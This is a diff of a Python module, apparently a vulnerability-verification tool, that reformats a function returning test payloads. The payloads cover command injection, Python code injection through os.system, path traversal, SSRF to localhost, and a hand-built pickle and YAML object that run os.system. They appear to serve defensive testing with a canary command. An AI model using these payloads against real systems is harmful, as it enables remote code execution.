@@ -47,7 +47,9 @@ def hostile(kind: str, nonce: str, finding: Finding) -> tuple[Input, ...]:
     """Return inputs that do harm where the weakness is there."""
     match kind:
         case "command":
-            return _texts(f"x; {_TOUCH} #", f"$({_TOUCH})", _TOUCH, f"x' ; {_TOUCH} #", f'x" ; {_TOUCH} #', f"x | {_TOUCH}", f"x\n{_TOUCH}\n")
+            return _texts(
+                f"x; {_TOUCH} #", f"$({_TOUCH})", _TOUCH, f"x' ; {_TOUCH} #", f'x" ; {_TOUCH} #', f"x | {_TOUCH}", f"x\n{_TOUCH}\n"
+            )
         case "code":
             run = f"__import__('os').system('{_TOUCH}')"
             return _texts(run, f"x');{run}#", f'x");{run}#', f"\n{run}\n", f"'+str({run})+'")
@@ -57,7 +59,9 @@ def hostile(kind: str, nonce: str, finding: Finding) -> tuple[Input, ...]:
             name = f"canary-{nonce}.txt"
             return _texts(f"/tmp/{name}", "../" * 8 + f"tmp/{name}", f"../{name}", "..%2f" * 8 + f"tmp%2f{name}")  # noqa: S108
         case "ssrf":
-            return _texts(f"http://127.0.0.1:8080/{nonce}", f"127.0.0.1:8080/{nonce}?", f"127.0.0.1:8080/{nonce}#", f"x@127.0.0.1:8080/{nonce}#")
+            return _texts(
+                f"http://127.0.0.1:8080/{nonce}", f"127.0.0.1:8080/{nonce}?", f"127.0.0.1:8080/{nonce}#", f"x@127.0.0.1:8080/{nonce}#"
+            )
         case "deserialisation":
             return _objects()
         case "template":
@@ -102,7 +106,6 @@ def _objects() -> tuple[Input, ...]:
     The pickle is written by hand, in protocol 0: the callable, a mark, its argument, a tuple, a call, the end.
     """
     pickled = f"cos\nsystem\n(S'{_TOUCH}'\ntR.".encode()
-
 
     yaml = f'!!python/object/apply:os.system ["{_TOUCH}"]'
     return (
